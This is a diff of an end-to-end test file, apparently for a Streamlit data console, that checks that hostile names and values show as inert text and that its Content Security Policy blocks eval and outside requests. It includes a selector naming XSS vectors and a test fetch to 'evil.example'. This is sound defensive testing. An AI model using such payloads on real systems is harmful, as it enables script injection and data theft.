@@ -1,16 +1,28 @@
-"""Requests of strangers' pages to a real console: refused at every path, before Streamlit sees them."""
+"""What strangers send and write, at a real console in a real browser.
+
+Requests of their pages are refused at every path, before Streamlit sees them. Their names and values are
+shown and do nothing: no dialog, no request to anywhere else, no element of theirs, no word that nobody sees.
+"""
 
 from __future__ import annotations
 
 import http.client
+import json
+import re
 import socket
 from collections.abc import Iterator
 
 import pytest
+from playwright.sync_api import Browser, Dialog, expect
 from websockets.exceptions import InvalidStatus
 from websockets.sync.client import connect
 
+from lakeside.shown import UNSEEN
 from tests.e2e.conftest import start_console
+from tests.e2e.visitor import Visitor, visit
+from tests.hostile import COLUMNS, EVIL, HARM, IMAGE, IN_A_KEY, MONTH, TABLE, fill_hostile_home
+from ui.app_pages.pages import PAGES
+from ui.presenters.places import link_to_checks, link_to_lake, link_to_object, link_to_schemas, link_to_table
 from ui.serving.policy import make_headers
 
 pytestmark = [pytest.mark.e2e, pytest.mark.slow]
@@ -40,7 +52,8 @@ def ask(port: int, path: str, headers: dict[str, str], method: str = "GET") -> h
 
 @pytest.fixture(scope="module")
 def url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
-    with start_console(tmp_path_factory.mktemp("strangers"), {}) as url:
+    home = tmp_path_factory.mktemp("strangers")
+    with start_console(home, fill_hostile_home(home)) as url:
         yield url
 
 
@@ -75,6 +88,13 @@ def test_nothing_is_uploaded_and_agents_are_not_served(port: int) -> None:
         assert ask(port, path, {}, method).status == 403
 
 
+def test_no_page_around_the_console_may_steer_it(port: int) -> None:
+    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
+    connection.request("GET", "/_stcore/host-config")
+    assert json.loads(connection.getresponse().read())["allowedOrigins"] == []
+    connection.close()
+
+
 def test_every_answer_tells_the_browser_what_to_allow(port: int) -> None:
     for path in [*PATHS, "/static/missing.js"]:
         answer = ask(port, path, {})
@@ -100,3 +120,102 @@ def test_a_websocket_of_the_console_itself_opens(port: int) -> None:
     own = {"Origin": f"http://127.0.0.1:{port}"}
     with connect(f"ws://127.0.0.1:{port}/_stcore/stream", additional_headers=own, open_timeout=60):
         pass
+
+
+BIDI = next(text for text in IN_A_KEY if "\u202e" in text)
+GREEN, YELLOW = (f"data/{name}/{name}_tripdata_{MONTH}.parquet" for name in ("green", "yellow"))
+# Places that show harmful words outside of a grid, which is drawn on a canvas.
+TELLING = [
+    link_to_lake(view="all"),
+    *[link_to_object(COLUMNS, tab=tab) for tab in ("profile", "charts", "schema", "layout")],
+    link_to_object(COLUMNS, tab="rows", row=5),
+    *[link_to_object(f"strange/{IMAGE}/{IMAGE}.parquet", tab=tab) for tab in ("versions", "load", "code")],
+    link_to_object(f"strange/{BIDI}/{BIDI}.parquet", tab="origin"),
+    link_to_object(f"strange/{IMAGE}.html"),
+    link_to_object(YELLOW, tab="origin"),
+    link_to_object(IMAGE),  # is not there: the error names it
+    link_to_schemas("strange/"),
+    link_to_checks("green", MONTH),
+    *[link_to_table(IMAGE, tab) for tab in ("columns", "profile", "queries")],
+    "sql",
+]
+QUIET = [
+    *[page.url_path for page in PAGES if page.url_path not in ("sql", "schemas", "warehouse", "checks")],
+    link_to_object(GREEN, tab="rows"),
+    link_to_table(TABLE, "rows"),
+]
+# Elements as the harmful texts would make them; what is written about them stands in the text, not here.
+THEIRS = "[data-evil], [onerror], [onload], [onmouseover], iframe, img[src*=evil], a[href^=javascript]"
+
+
+def find_theirs(visitor: Visitor) -> list[str]:
+    """Elements that a text made, and links that lead away."""
+    made = visitor.page.locator(THEIRS).evaluate_all("found => found.map((e) => e.outerHTML)")
+    away = "found => found.filter((a) => a.origin !== location.origin).map((a) => a.outerHTML)"
+    return [*made, *visitor.page.locator("a[href]").evaluate_all(away)]
+
+
+def look(visitor: Visitor, place: str) -> str:
+    """Everything that is written at a place, after a look for what must not be there."""
+    visitor.go(place)
+    words = visitor.page.locator("body").inner_text()
+    assert find_theirs(visitor) == [], place
+    assert re.findall(UNSEEN, words) == [], place
+    assert "Something went wrong" not in words, place
+    return words
+
+
+def test_names_and_values_that_would_do_harm_are_shown_and_do_none(url: str, browser: Browser) -> None:
+    dialogs: list[str] = []
+
+    def note(dialog: Dialog) -> None:
+        dialogs.append(dialog.message)
+        dialog.dismiss()
+
+    with visit(browser, url) as visitor:  # which fails on requests elsewhere and on words of the console
+        visitor.page.on("dialog", note)
+        silent = [place for place in TELLING if EVIL not in look(visitor, place)]
+        for place in QUIET:
+            look(visitor, place)
+    assert silent == []
+    assert dialogs == []
+
+
+def test_choices_that_name_columns_show_them_as_they_are(url: str, browser: Browser) -> None:
+    with visit(browser, url) as visitor:
+        page = visitor.page
+        visitor.go(link_to_object(COLUMNS, tab="charts"))
+        page.get_by_role("combobox", name="Along").click()
+        expect(page.get_by_role("option", name=HARM[0], exact=True)).to_be_visible()
+        assert find_theirs(visitor) == []
+        page.keyboard.press("Escape")
+        page.locator("canvas, svg.marks").first.hover()
+        assert find_theirs(visitor) == []
+
+
+def test_a_grid_offers_no_csv_that_a_spreadsheet_would_run(url: str, browser: Browser) -> None:
+    with visit(browser, url) as visitor:
+        visitor.go(link_to_object(COLUMNS, tab="rows"))
+        visitor.page.get_by_test_id("stDataFrame").first.hover()
+        expect(visitor.page.get_by_role("button", name=re.compile("^Fullscreen"))).to_be_visible()
+        expect(visitor.page.get_by_role("button", name=re.compile("^Download as CSV"))).to_be_hidden()
+
+
+def test_what_got_into_a_page_all_the_same_could_do_nothing(url: str, browser: Browser) -> None:
+    """The second wall, and the proof that the tests above would see a hole in the first."""
+    attempt = "try { tell(new Function('return 1')()) } catch (error) { tell(error.name) }"
+    script = (
+        f"new Promise((tell) => setTimeout(() => {{ {attempt} }}))"  # later, as a script of the page would
+    )
+    fetch = "fetch('http://evil.example/').then(() => 'sent', (error) => error.name)"
+    with visit(browser, url) as visitor:
+        page = visitor.page
+        visitor.go()
+        assert page.evaluate(script) == "EvalError"
+        assert page.evaluate(fetch) == "TypeError"
+        page.evaluate("(html) => document.body.insertAdjacentHTML('beforeend', html)", "".join(HARM))
+        assert len(find_theirs(visitor)) > 3
+        refused = [words for words in visitor.console_errors if "Content Security Policy" in words]
+        assert len(refused) >= 3, visitor.console_errors
+        visitor.console_errors.clear()
+        visitor.foreign_requests.clear()
